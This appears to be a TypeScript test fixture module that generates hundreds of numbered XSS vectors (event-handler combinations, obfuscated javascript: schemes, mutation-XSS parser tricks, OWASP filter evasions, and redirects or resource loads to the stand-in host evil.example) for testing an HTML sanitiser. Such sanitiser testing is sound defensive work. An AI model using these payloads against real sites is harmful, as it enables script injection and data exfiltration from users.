/** Markup that tries to run `hit(id)`, or to have something fetched from `https://evil.example/id`. */
export interface ScriptVector {
  readonly id: number
  readonly html: string
}

/** A vector without its number: `RUN` calls, and `LEAK` is an address. */
type Shape = string

const TAGS = [
  ...[
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'audio src=x',
    'iframe',
    'object data=x',
  ],
  ...['marquee', 'a href=#', 'p', 'div tabindex=0', 'select autofocus', 'textarea autofocus', 'button', 'form', 'math'],
  ...[
    'table',
    'embed src=x',
    'link rel=stylesheet href=x',
    'style',
    'frameset',
    'x-own tabindex=1',
    'keygen',
    'dialog open',
  ],
]
const HANDLERS = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onanimationstart',
    'onpointerenter',
    'onbegin',
  ],
  ...['onscroll', 'onbeforetoggle', 'onpageshow', 'onwheel', 'ontransitionend', 'oncopy', 'ONLOADSTART'],
]

/** One way each of writing a handler that a filter of strings may not know. */
const SPELLINGS: readonly ((tag: string) => Shape)[] = [
  (tag) => `<${tag}/onclick=RUN>`,
  (tag) => `<${tag}\nonclick\n=\nRUN\n>`,
  (tag) => `<${tag.toUpperCase()} OnClIcK="RUN">`,
  (tag) => `<${tag} onclick="&#104;i&#x74;(ID)">`,
  (tag) => `<${tag} onclick="&#0000104;it(ID)">`,
  (tag) => `<${tag} onclick='RUN'`,
  (tag) => `<<${tag} onclick=RUN//<`,
  (tag) => `<${tag} title=">" onclick=RUN>`,
  (tag) => `<${tag} title='"' onclick='RUN' title="'">`,
  (tag) => `<${tag} title=\`\` onclick=RUN>`,
  (tag) => `<${tag}\x0conclick=RUN>`,
  (tag) => `<${tag} =" onclick=RUN>`,
  (tag) => `<${tag} x\0 onclick=RUN>`,
  (tag) => `"><${tag} onclick=RUN>`,
]

const SCHEMES: readonly Shape[] = [
  ...[
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    ' javascript:RUN',
    '\x01javascript:RUN',
    'java\tscript:RUN',
    'java\nscript:RUN',
  ],
  ...[
    'javascript&colon;RUN',
    '&#106;avascript:RUN',
    '&#x6A&#x61vascript:RUN',
    'java&#x09;script:RUN',
    'javascript://%0aRUN',
  ],
  ...[
    '&#14; javascript:RUN',
    'data:text/html,<script>parent.RUN</script>',
    'javascript:&quot;RUN&quot;;RUN',
    'vbscript:RUN',
  ],
  ...['feed:javascript:RUN', 'view-source:javascript:RUN', 'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4='],
]
const CARRIERS: readonly ((url: string) => Shape)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<map><area href="${url}" shape=default></map>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<form><input type=submit formaction="${url}"></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}" /><text>x</text></a></svg>`,
  (url) => `<svg><use href="${url}#x" /></svg>`,
  (url) => `<math><mtext href="${url}">x</mtext></math>`,
  (url) => `<math><maction actiontype="statusline#" xlink:href="${url}">x</maction></math>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<video><source src="${url}"></video>`,
  (url) => `<link rel=import href="${url}">`,
  (url) => `<blockquote cite="${url}">x</blockquote>`,
]

const LIVE = '<img src=x onerror=RUN>'
/** In an attribute while the sanitiser reads, and an element once something else reads it. */
const HIDDEN: readonly ((raw: string) => Shape)[] = [
  (raw) => `<${raw}><p title="</${raw}>${LIVE}">`,
  (raw) => `<${raw}><a id="</${raw}>${LIVE}"></a></${raw}>`,
  (raw) => `<${raw}><!--</${raw}>${LIVE}--></${raw}>`,
]
const RAW = [
  'style',
  'xmp',
  'noembed',
  'noframes',
  'iframe',
  'textarea',
  'title',
  'noscript',
  'script',
  'listing',
  'plaintext',
]
/** Where parsers change how they read, and put things elsewhere. */
const PLACES: readonly (readonly [string, string])[] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<svg></p>', ''],
  ['<svg><desc>', ''],
  ['<svg><title>', ''],
  ['<svg><foreignObject>', ''],
  ['<math>', ''],
  ['<math><mtext>', ''],
  ['<math><mtext><table><mglyph>', ''],
  ['<math><mtext><mglyph>', ''],
  ['<math><annotation-xml encoding="text/html">', ''],
  ['<form><math><mtext></form><form><mglyph>', ''],
  ['<table>', ''],
  ['<select>', ''],
  ['<select><template>', ''],
  ['<template>', ''],
  ['<div><template shadowrootmode=open>', '</template></div>'],
  ['<p><svg><p>', ''],
  ['<a><table><a>', ''],
]

const KNOWN: readonly Shape[] = [
  '<script>RUN</script>',
  '<SCRIPT SRC=LEAK></SCRIPT>',
  '<script/x>RUN</script>',
  '<script>RUN',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN" /></svg>',
  '<svg><script>&#104;it(ID)</script></svg>',
  '<math><script>RUN</script></math>',
  '<IMG """><SCRIPT>RUN</SCRIPT>"\\>',
  '<img src=x:x onerror=RUN',
  '<img/src=x/onerror=RUN>',
  '<img src=x onerror\n=RUN>',
  "<svg onload='RUN'//",
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x to=1>',
  '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.RUN</script>"></object>',
  '<marquee onstart=RUN>x</marquee>',
  '<details ontoggle=RUN open>x</details>',
  '<video><source onerror=RUN></video>',
  '<audio src onloadstart=RUN>',
  '<input onfocus=RUN autofocus>',
  '<body onpageshow=RUN>',
  '<isindex type=image src=x onerror=RUN>',
  `<!--><img src=x onerror=RUN>-->`,
  `<!---><img src=x onerror=RUN>-->`,
  `<!-- --!><img src=x onerror=RUN> -->`,
  `<!--<img title="--><img src=x onerror=RUN>">`,
  `<![CDATA[><img src=x onerror=RUN>]]>`,
  `<svg><![CDATA[<p title="]]><img src=x onerror=RUN>">`,
  `<?xml version="1.0"?><img src=x onerror=RUN>`,
  `<?<img src=x onerror=RUN>`,
  `</<img src=x onerror=RUN>`,
  `</a ${LIVE}>${LIVE}`,
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<math><mtext><table><mglyph><style><math><img src onerror=RUN></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<select><noembed></select><img src=x onerror=RUN></noembed>',
  '<svg><style><img title="</style><img src=x onerror=RUN>"></style></svg>',
  '<div id="x\n"><a title="`onmouseover=RUN">x</a></div>',
  '<b><style><b><img title="</style><img src=x onerror=RUN>">',
  '<table><td><template><tr><img src=x onerror=RUN></template></td></table>',
  '<template><img src=x onerror=RUN></template>',
  '<div><template shadowrootmode="open"><img src=x onerror=RUN></template></div>',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=RUN&gt;">x</p>',
  '<p title="`<img src=x onerror=RUN>">x</p>',
  '<a href="x" title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">x</a>',
  '<img alt="<x" title="/><img src=x onerror=RUN>">',
  '<option><style></option></select><img src=x onerror=RUN></style>',
  '<a style="x:expression(RUN)">x</a>',
  '<img style="xss:expr/*x*/ession(RUN)">',
  '<x contenteditable onblur=RUN onfocusin=RUN tabindex=1 autofocus>x</x>',
  '<button popovertarget=x onclick=RUN>x</button><p popover id=x onbeforetoggle=RUN>x</p>',
  ...['<link rel=stylesheet href=LEAK>', '<style>@import "LEAK";</style>', '<p style="background:url(LEAK)">x</p>'],
  ...['<iframe src=LEAK></iframe>', '<object data=LEAK></object>', '<embed src=LEAK>', '<video poster=LEAK></video>'],
  ...['<audio src=LEAK autoplay></audio>', '<table background=LEAK><td>x</td></table>', '<input type=image src=LEAK>'],
  ...['<svg><image href=LEAK /></svg>', '<svg><use href="LEAK#x" /></svg>', '<video><track default src=LEAK></video>'],
  ...['<link rel=preload as=script href=LEAK>', '<link rel=prefetch href=LEAK>', '<link rel=icon href=LEAK>'],
  ...[
    '<frameset><frame src=LEAK></frameset>',
    '<bgsound src=LEAK>',
    '<svg><feImage href=LEAK /></svg>',
    '<applet code=LEAK>',
  ],
  ...['<form action=LEAK><input name=x></form>', '<script src=LEAK></script>', '<body background=LEAK>'],
  ...[
    '<style>p{background:url(LEAK)}</style><p>x</p>',
    '<portal src=LEAK></portal>',
    '<link rel=dns-prefetch href=LEAK>',
  ],
]

/** What sends the whole page elsewhere, or its addresses: each needs a page of its own where it is not sanitised. */
const LEAVING: readonly Shape[] = [
  '<meta http-equiv=refresh content="0;url=LEAK">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=LEAK">',
  '<base href="https://evil.example/"><img src=ID>',
  '<svg><base href="https://evil.example/"></svg><img src=ID>',
]

const SHAPES: readonly Shape[] = [
  ...KNOWN,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=RUN>`)),
  ...TAGS.filter((_, place) => place % 2 === 0).flatMap((tag) => SPELLINGS.map((spell) => spell(tag))),
  ...SCHEMES.flatMap((url) => CARRIERS.map((carry) => carry(url))),
  ...PLACES.flatMap(([before, after]) => [
    `${before}${LIVE}${after}`,
    ...RAW.flatMap((raw) => HIDDEN.map((hide) => before + hide(raw) + after)),
  ]),
]

/** Vectors that stay in their page: OWASP's filter evasions, mutation XSS, and every handler, scheme and place in turn. */
export const SCRIPT_VECTORS: readonly ScriptVector[] = numbered([...new Set(SHAPES)], 0)

/** Vectors that leave their page. */
export const LEAVING_VECTORS: readonly ScriptVector[] = numbered(LEAVING, SCRIPT_VECTORS.length)

function numbered(shapes: readonly Shape[], from: number): readonly ScriptVector[] {
  return shapes.map((shape, place) => {
    const id = from + place
    const run = shape.replaceAll('RUN', `hit(${id})`).replaceAll('LEAK', `https://evil.example/${id}`)
    return { id, html: run.replaceAll('ID', String(id)) }
  })
}
